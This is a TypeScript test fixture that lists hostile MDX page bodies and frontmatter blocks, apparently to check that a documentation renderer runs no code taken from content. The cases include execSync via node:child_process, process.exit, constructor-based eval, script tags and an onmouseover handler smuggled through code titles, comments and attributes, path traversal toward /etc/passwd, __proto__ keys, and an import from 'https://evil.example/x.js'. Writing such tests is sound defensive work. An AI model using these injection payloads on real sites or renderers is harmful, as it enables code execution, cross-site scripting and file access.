import { formatHostilePage, type HostileCase, makePageCase } from './hostile-case';

const RUN = 'globalThis.ran = 1';

const BODIES: Record<string, string> = {
  'an expression': `{${RUN}}`,
  'an expression in a paragraph': `Words {${RUN}} words.`,
  'an expression in a heading': `## Words {${RUN}}`,
  'an expression that calls a function': '{(() => { globalThis.ran = 1 })()}',
  'an expression that requires a module': "{require('node:child_process').execSync('touch ran')}",
  'an expression that imports a module': "{await import('node:fs')}",
  'an expression that ends the process': '{process.exit(0)}',
  'an expression with a constructor': "{[].constructor.constructor('globalThis.ran=1')()}",
  'an unclosed expression': '{globalThis.ran = 1',
  'an expression in an attribute': `<Callout type={${RUN}}>a</Callout>`,
  'spread attributes': '<Callout {...globalThis}>a</Callout>',
  'an expression in a spread attribute': '<Callout type="note" {...{title: globalThis.ran = 1}}>a</Callout>',
  'an expression in a component': `<Details summary="a">{${RUN}}</Details>`,
  'an import': "import fs from 'node:fs'\n\nWords.",
  'an import of a URL': "import 'https://evil.example/x.js'\n\nWords.",
  'an export': `export const a = (${RUN})\n\nWords.`,
  'a default export': `export default () => { ${RUN} }\n\nWords.`,
  'an export of the layout': `export { default as layout } from './x'\n\nWords.`,
  'a comment with code': `{/* */ ${RUN}}`,
  'a template string': `{\`\${${RUN}}\`}`,
  'an escaped escape': `\\{{${RUN}}}`,
  'a comment that ends early': `<!-- a --> {${RUN}} <!-- b -->`,
  'a comment that hides a tag': '<!-- > --><script>window.ran=1</script><!-- -->',
  'a comment across code': `<!-- \`\`\` -->\n{${RUN}}\n<!-- \`\`\` -->`,
  'a code title that closes its element': '```js title="</figcaption><script>window.ran=1</script>"\na\n```',
  'a language that is a path': '```../../../../etc/passwd\na\n```',
  'a language named __proto__': '```__proto__\na\n```',
  'code that closes its element': '```html\n</code></pre><script>window.ran=1</script>\n```',
  'a term that closes its element': '<Term name="</dt><script>window.ran=1</script>">\n\nWords.\n\n</Term>',
  'an id that closes its attribute': `## Words {#a"onmouseover="window.ran=1}`,
  'ids that shadow properties of the document': '## Words {#__proto__}\n\n## body\n\n## cookie',
  'a footnote named __proto__': 'Words[^__proto__].\n\n[^__proto__]: Words.',
  'a link definition named __proto__': 'See [words][__proto__].\n\n[__proto__]: https://example.org',
  'a callout named __proto__': ':::__proto__[Words]\n\nWords.\n\n:::',
  'a drawing named __proto__': '<Diagram name="__proto__" caption="a">\n\nWords.\n\n</Diagram>',
  'a drawing outside the content folder': '<Diagram name="../../x" caption="a">\n\nWords.\n\n</Diagram>',
};

const FRONTMATTERS: Record<string, string> = {
  'frontmatter that is code': `---js\n{ title: (${RUN}) }\n---\n\nWords.\n`,
  'frontmatter that is code with the long name': `---javascript\n{ title: (${RUN}) }\n---\n\nWords.\n`,
  'frontmatter that is code after a space': `--- js\n{ title: (${RUN}) }\n---\n\nWords.\n`,
  'frontmatter that is code in capitals': `---JS\n{ title: (${RUN}) }\n---\n\nWords.\n`,
  'frontmatter in another language': `---coffee\ntitle: (${RUN})\n---\n\nWords.\n`,
  'frontmatter in JSON': '---json\n{ "__proto__": { "title": "x" } }\n---\n\nWords.\n',
  'frontmatter in the language __proto__': '---__proto__\ntitle: x\n---\n\nWords.\n',
};

/** Code that an MDX renderer or a frontmatter parser could run. */
export const CODE_CASES: HostileCase[] = [
  ...Object.entries(BODIES).map(([name, body]) => makePageCase('code in text', name, body)),
  ...Object.entries(FRONTMATTERS).map(([name, text]) => ({
    group: 'code in frontmatter',
    name,
    files: { 'hostile.mdx': text, 'second.mdx': formatHostilePage('Words.', { title: '"Second"' }) },
  })),
];
